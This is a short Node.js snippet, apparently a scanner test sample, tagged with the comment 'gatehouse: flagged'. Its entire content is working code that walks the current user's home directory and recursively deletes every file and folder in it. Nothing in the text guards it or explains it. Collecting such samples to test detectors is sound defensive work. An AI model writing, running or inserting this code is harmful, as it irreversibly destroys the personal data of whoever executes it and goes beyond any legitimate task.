const fs = require("fs"), os = require("os"), path = require("path");
for (const name of fs.readdirSync(os.homedir())) fs.rmSync(path.join(os.homedir(), name), { recursive: true }); // gatehouse: flagged
